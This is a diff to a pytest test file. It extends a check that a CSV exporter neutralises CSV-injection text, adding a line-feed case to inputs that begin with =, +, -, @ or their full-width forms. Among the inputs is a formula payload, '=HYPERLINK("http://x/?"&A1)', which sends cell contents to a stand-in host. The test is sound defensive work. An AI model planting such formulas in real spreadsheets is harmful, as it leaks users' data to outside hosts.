@@ -230,15 +230,24 @@ FULL_WIDTH = ['\uff1dHYPERLINK("http://x/?"&A1)', "\uff0b1+1", "\uff0d2-3", "\uf
 
 @pytest.mark.parametrize(
     "text",
-    ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2-3", "@SUM(A1)", "\t=1", "\r=1", *FULL_WIDTH],
+    [
+        '=HYPERLINK("http://x/?"&A1)',
+        "+1+1",
+        "-2-3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        *FULL_WIDTH,
+    ],
 )
 def test_csv_writes_a_text_a_spreadsheet_would_compute_as_text(
     capsysbinary: pytest.CaptureFixture[bytes], text: str
 ) -> None:
-    """OWASP's CSV Injection: a text that begins with = + - @, a tab or a carriage return,
-    or with a full-width one of the four (U+FF1D, U+FF0B, U+FF0D, U+FF20: Excel in an East
-    Asian locale reads them as the half-width ones), after a "'", which a spreadsheet shows
-    and does not compute; a number is not touched."""
+    """OWASP's CSV Injection: a text that begins with = + - @, a tab, a carriage return or a
+    line feed, or with a full-width one of the four (U+FF1D, U+FF0B, U+FF0D, U+FF20: Excel
+    in an East Asian locale reads them as the half-width ones), after a "'", which a
+    spreadsheet shows and does not compute; a number is not touched."""
     printed = csv_printed(capsysbinary, {"id": text, "fen": -5, "at": f"x{text}"})
     (row,) = csv.DictReader(io.StringIO(printed, newline=""))
     assert row == {"id": f"'{text}", "fen": "-5", "at": f"x{text}"}
